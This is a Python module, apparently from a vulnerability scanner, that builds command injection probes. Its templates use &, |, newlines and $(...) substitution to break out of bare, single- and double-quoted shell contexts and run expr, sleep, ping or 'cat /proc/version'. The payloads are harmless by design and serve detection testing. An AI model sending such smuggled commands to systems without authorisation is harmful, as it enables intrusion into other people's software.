"""Values that end the place they were meant for in a command line and start a command of their own.

A POSIX shell reads one line in three ways, depending on whether the value stands bare, in single or in double quotes.
Each form therefore repeats its command three times, so that exactly one of them is read as a command and the rest of the
line, whatever it holds, as a comment:

    bare        cmd VALUE;run #';run #";run #            the first runs, all else is a comment
    '...'       cmd 'VALUE;run #';run #";run #'          the second runs
    "..."       cmd "VALUE;run #';run #";run #"          the third runs

Safety. The commands are `expr`, `echo`, `set /a`, `sleep`, `ping` to the server itself and `cat` of a file that not even
the superuser can change or delete. What the application's own command does with the value in front of them it would do
with any value. Nothing is written, and no background process is left behind.
"""

from __future__ import annotations

import re

import msgspec

# What the kernel says of itself: long, unguessable, and not a real file, so a program that gets its name as an argument
# and would write or delete it cannot.
ARGUMENT_FILE = "/proc/version"
ARGUMENT_FILE_NEEDLE = b"Linux version "
ARGUMENT_FILE_PATTERN = re.compile(r"Linux version \d+\.\d+[^\n<]{1,600}?#\d+[^\n<]{0,120}")


class SumForm(msgspec.Struct, frozen=True):
    """A way to have a shell add two numbers. `template` holds `{value}`, `{left}` and `{right}`."""

    name: str
    template: str

    def payload(self, value: str, left: int, right: int) -> str:
        """Return the value to send."""
        return (
            self.template.replace("{left}", str(left))
            .replace("{right}", str(right))
            .replace("{value}", value)
        )


class DelayForm(msgspec.Struct, frozen=True):
    """A way to have a shell wait. `template` holds `{value}` and `{seconds}`, or `{pings}`, one more than seconds."""

    name: str
    template: str

    def payload(self, value: str, seconds: int) -> str:
        """Return the value that asks for so many seconds."""
        return (
            self.template.replace("{seconds}", str(seconds))
            .replace("{pings}", str(seconds + 1))
            .replace("{value}", value)
        )


def _in_every_quote(run: str) -> str:
    return "{value}" + run + "'" + run + '"' + run


# `set /a` is the sum of a Windows shell, which knows no other of these words; a POSIX shell takes it for the setting of
# two positional parameters and says nothing.
AMPERSANDS = SumForm(
    "commands joined by &", _in_every_quote("&set /a {left}+{right}&expr {left} + {right} #")
)
# Without a blank, a semicolon, an ampersand, a dollar sign or a parenthesis, against filters of each.
PIPES = SumForm("a pipe, with tabs for blanks", _in_every_quote("|expr\t{left}\t+\t{right}\t#"))
# Against filters of both & and |.
LINES = SumForm("commands on new lines", _in_every_quote("\nexpr {left} + {right} #"))
SUBSTITUTION = SumForm("a command in the place of a word", "{value}$(expr {left} + {right})")
WHOLE_COMMAND = SumForm("the whole command", "expr {left} + {right}")

SHELL_FORMS: tuple[SumForm, ...] = (AMPERSANDS, PIPES)
MORE_SHELL_FORMS: tuple[SumForm, ...] = (LINES, SUBSTITUTION)

SUBSTITUTION_DELAY = DelayForm(
    "sleep in the place of a word", "{value}$(sleep {seconds})'$(sleep {seconds})'"
)
WINDOWS_DELAY = DelayForm(
    "ping, which waits a second between two",
    '{value}&ping -n {pings} 127.0.0.1&"&ping -n {pings} 127.0.0.1&',
)
PIPE_DELAY = DelayForm("a pipe into sleep, with tabs for blanks", _in_every_quote("|sleep\t{seconds}\t#"))


def argument_payload() -> str:
    """Return the value that shows the file wherever it is split into arguments.

    As the whole command it runs `cat`; as arguments of a program that reads files it names one more file. The blank at
    the end keeps the name apart from what the application puts behind the value.
    """
    return f"cat {ARGUMENT_FILE} "
